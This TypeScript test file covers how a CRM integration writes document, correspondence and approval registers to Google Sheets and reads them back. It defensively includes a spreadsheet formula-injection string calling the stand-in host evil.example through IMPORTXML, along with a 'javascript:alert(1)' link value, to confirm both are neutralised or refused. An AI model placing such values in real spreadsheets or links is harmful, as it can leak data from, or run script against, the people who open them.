import fc from 'fast-check';
import {
  APPROVALS_REGISTER,
  type CellValue,
  columnLetter,
  CORRESPONDENCE_REGISTER,
  DOCUMENTS_REGISTER,
  type DocumentRow,
  type RegisterSchema,
} from '../../../../shared/registers';
import { ANNULLED_ROW, APPROVAL_ROW, CORRESPONDENCE_ROW, DOCUMENT_ROW } from './rowFixtures';
import { roundTrip, storedKinds } from './sheetsModel';

const CASES = [
  ['Documents', DOCUMENTS_REGISTER, DOCUMENT_ROW],
  ['Documents (annulled)', DOCUMENTS_REGISTER, ANNULLED_ROW],
  ['Correspondence', CORRESPONDENCE_REGISTER, CORRESPONDENCE_ROW],
  ['Approvals', APPROVALS_REGISTER, APPROVAL_ROW],
] as const;

function parseOk<Row>(schema: RegisterSchema<Row>, values: readonly unknown[]): Row {
  const result = schema.parse(values);
  if (result.status === 'error') throw new Error(result.detail);
  return result.response;
}

describe.each(CASES)('%s register', (_name, schema, row) => {
  const register = schema as RegisterSchema<typeof row>;

  it('has one header per field, all different', () => {
    expect(register.headers).toHaveLength(register.fields.length);
    expect(new Set(register.headers).size).toBe(register.headers.length);
    expect(Object.keys(row).sort()).toEqual([...register.fields].sort());
  });

  it('gets the row back after a trip through Sheets', () => {
    const cells = register.serialise(row);
    expect(cells).toHaveLength(register.headers.length);
    expect(parseOk(register, roundTrip(cells))).toEqual(row);
  });

  it('stores no cell as a formula', () => {
    expect(storedKinds(register.serialise(row))).not.toContain('formula');
  });

  it('accepts its own header row and ignores extra columns on the right', () => {
    expect(register.checkHeader([...register.headers, 'Заметки'])).toEqual({ status: 'success', response: true });
  });

  it('refuses a header row with two columns swapped, naming the first wrong column', () => {
    const swapped = [...register.headers];
    [swapped[1], swapped[2]] = [swapped[2] ?? '', swapped[1] ?? ''];
    const result = register.checkHeader(swapped);
    expect(result.status).toBe('error');
    if (result.status === 'error') {
      expect(result.type).toBe('unexpected_header');
      expect(result.detail).toContain('столбце B');
    }
  });

  it('ignores cells to the right of the register', () => {
    expect(parseOk(register, [...roundTrip(register.serialise(row)), 'заметка', 42])).toEqual(row);
  });

  it('refuses a short row, naming the first missing required column', () => {
    const result = register.parse(roundTrip(register.serialise(row)).slice(0, 1));
    expect(result.status).toBe('error');
  });
});

describe('CRM text that looks like a formula', () => {
  const hostile = ['=IMPORTXML("http://evil.example","//a")', '+79001234567', '-10%', '@admin', '\t=1', '\r\n=2', "'=3", '=', "'"];

  it.each(hostile)('a client name %j is stored as text and read back unchanged', (name) => {
    const row: DocumentRow = { ...DOCUMENT_ROW, clientName: name, annulledReason: name };
    const cells = DOCUMENTS_REGISTER.serialise(row);
    expect(storedKinds(cells)).not.toContain('formula');
    expect(parseOk(DOCUMENTS_REGISTER, roundTrip(cells))).toEqual(row);
  });

  it('round-trips any text in every free-text column (property)', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 40, unit: 'binary' }), fc.string({ unit: 'grapheme' }), (name, note) => {
        const row: DocumentRow = { ...DOCUMENT_ROW, clientName: name, manager: name, annulledReason: note === '' ? null : note };
        const cells = DOCUMENTS_REGISTER.serialise(row);
        expect(storedKinds(cells)).not.toContain('formula');
        expect(parseOk(DOCUMENTS_REGISTER, roundTrip(cells))).toEqual(row);
      }),
      { numRuns: 300 },
    );
  });
});

describe('parse errors name the column', () => {
  function cellsWith(field: keyof DocumentRow, value: CellValue): CellValue[] {
    const cells = roundTrip(DOCUMENTS_REGISTER.serialise(DOCUMENT_ROW));
    cells[DOCUMENTS_REGISTER.fields.indexOf(field)] = value;
    return cells;
  }

  it.each<[keyof DocumentRow, CellValue, string]>([
    ['registryNumber', 'Договор 42', 'Рег. номер'],
    ['registryNumber', '', 'Рег. номер'],
    ['kind', 'Письмо', 'Вид документа'],
    ['parentContractNumber', 'C-26-42', 'К договору'],
    ['dealId', 'сделка', 'ID сделки'],
    ['dealId', 0, 'ID сделки'],
    ['dealId', 7.5, 'ID сделки'],
    ['dealId', '', 'ID сделки'],
    ['clientId', '-3', 'ID компании'],
    ['clientName', '', 'Клиент'],
    ['clientName', true, 'Клиент'],
    ['clientName', new Date(0), 'Клиент'],
    ['template', 'bitrix24-licence', 'Шаблон'],
    ['template', 'bitrix24 licence@3', 'Шаблон'],
    ['template', 'bitrix24-licence@0', 'Шаблон'],
    ['status', 'Потерян', 'Статус'],
    ['statusSince', '02.03.2026', 'В статусе с'],
    ['statusSince', '2026-03-02T09:15:00', 'В статусе с'],
    ['statusSince', 46083, 'В статусе с'],
    ['statusSince', new Date(Number.NaN), 'В статусе с'],
    ['docUrl', 'javascript:alert(1)', 'Документ'],
    ['docUrl', 'https://docs.google.com/a b', 'Документ'],
    ['createdAt', '', 'Создан'],
  ])('%s = %p → error naming «%s»', (field, value, header) => {
    const result = DOCUMENTS_REGISTER.parse(cellsWith(field, value), 17);
    expect(result.status).toBe('error');
    if (result.status === 'error') {
      const index = DOCUMENTS_REGISTER.fields.indexOf(field);
      expect(result.type).toBe('invalid_register_row');
      expect(result.field).toBe(field);
      expect(result.column).toBe(columnLetter(index));
      expect(result.detail).toContain(`«${header}»`);
      expect(result.detail).toContain(`столбец ${columnLetter(index)}`);
      expect(result.detail).toContain('строка 17');
      expect(result.detail).toContain('«Документы»');
    }
  });

  it('without a row number, the detail starts with the column', () => {
    const result = DOCUMENTS_REGISTER.parse(cellsWith('dealId', 'x'));
    expect(result.status === 'error' && result.detail).toMatch(/^Столбец E «ID сделки»: ожидалось/);
  });
});

describe('cells edited by hand are read leniently where it is safe', () => {
  function parseWith(field: keyof DocumentRow, value: CellValue): DocumentRow {
    const cells = roundTrip(DOCUMENTS_REGISTER.serialise(DOCUMENT_ROW));
    cells[DOCUMENTS_REGISTER.fields.indexOf(field)] = value;
    return parseOk(DOCUMENTS_REGISTER, cells);
  }

  it('reads a deal id Sheets turned into a number', () => {
    expect(parseWith('dealId', 759).dealId).toBe('759');
  });

  it('reads a date cell as its ISO string', () => {
    expect(parseWith('statusSince', new Date('2026-03-02T09:15:00Z')).statusSince).toBe('2026-03-02T09:15:00.000Z');
  });

  it('keeps an ISO string with an offset exactly as written', () => {
    expect(parseWith('statusSince', '2026-03-02T12:15:00+03:00').statusSince).toBe('2026-03-02T12:15:00+03:00');
  });

  it('reads a status or kind typed as its code instead of its title', () => {
    expect(parseWith('status', 'approved').status).toBe('approved');
    expect(parseWith('kind', ' Спецификация ').kind).toBe('specification');
  });

  it('reads a registry number typed in lower case with spaces, in canonical form', () => {
    expect(parseWith('replacementNumber', ' c-2026-00043 ').replacementNumber).toBe('C-2026-00043');
  });

  it('reads a client name someone typed as a number', () => {
    expect(parseWith('clientName', 1812).clientName).toBe('1812');
  });

  it('treats null and undefined like an empty cell in optional columns', () => {
    expect(parseWith('pdfUrl', null as unknown as CellValue).pdfUrl).toBeNull();
    expect(parseWith('annulledReason', undefined as unknown as CellValue).annulledReason).toBeNull();
  });
});

describe('cell formats', () => {
  it('writes titles, not codes, for coded columns', () => {
    const cells = DOCUMENTS_REGISTER.serialise(DOCUMENT_ROW);
    expect(cells[DOCUMENTS_REGISTER.fields.indexOf('kind')]).toBe('Спецификация');
    expect(cells[DOCUMENTS_REGISTER.fields.indexOf('status')]).toBe('На согласовании у клиента');
    expect(APPROVALS_REGISTER.serialise(APPROVAL_ROW)).toContain('Технический директор');
    expect(CORRESPONDENCE_REGISTER.serialise(CORRESPONDENCE_ROW)).toContain('Исходящий');
  });

  it('writes the template as key@version and numbers as numbers', () => {
    expect(DOCUMENTS_REGISTER.serialise(DOCUMENT_ROW)).toContain("'bitrix24-licence-spec@3");
    const approval = APPROVALS_REGISTER.serialise(APPROVAL_ROW);
    expect(approval[APPROVALS_REGISTER.fields.indexOf('round')]).toBe(2);
    expect(approval[APPROVALS_REGISTER.fields.indexOf('step')]).toBe(3);
  });

  it('writes empty cells for absent optional values', () => {
    const cells = DOCUMENTS_REGISTER.serialise(DOCUMENT_ROW);
    expect(cells[DOCUMENTS_REGISTER.fields.indexOf('pdfUrl')]).toBe('');
    expect(cells[DOCUMENTS_REGISTER.fields.indexOf('annulledReason')]).toBe('');
  });

  it('keeps a multi-line address in one cell', () => {
    const cells = CORRESPONDENCE_REGISTER.serialise(CORRESPONDENCE_ROW);
    expect(roundTrip(cells)[CORRESPONDENCE_REGISTER.fields.indexOf('address')]).toBe(CORRESPONDENCE_ROW.address);
  });

  it('refuses approval steps and rounds out of range', () => {
    const cells = roundTrip(APPROVALS_REGISTER.serialise(APPROVAL_ROW));
    const step = APPROVALS_REGISTER.fields.indexOf('step');
    for (const bad of [0, 21, 1.5, '3a', '']) {
      const changed = [...cells];
      changed[step] = bad;
      expect(APPROVALS_REGISTER.parse(changed)).toMatchObject({ status: 'error', field: 'step' });
    }
    const changed = [...cells];
    changed[step] = ' 4 ';
    expect(parseOk(APPROVALS_REGISTER, changed).step).toBe(4);
  });

  it('refuses a correspondence row with a malformed event key', () => {
    const cells = roundTrip(CORRESPONDENCE_REGISTER.serialise(CORRESPONDENCE_ROW));
    cells[0] = 'kiosk-1';
    expect(CORRESPONDENCE_REGISTER.parse(cells)).toMatchObject({ status: 'error', field: 'eventKey', column: 'A' });
  });
});

describe('columnLetter', () => {
  it.each([
    [0, 'A'],
    [25, 'Z'],
    [26, 'AA'],
    [51, 'AZ'],
    [52, 'BA'],
    [701, 'ZZ'],
    [702, 'AAA'],
  ])('%i → %s', (index, letter) => {
    expect(columnLetter(index)).toBe(letter);
  });
});
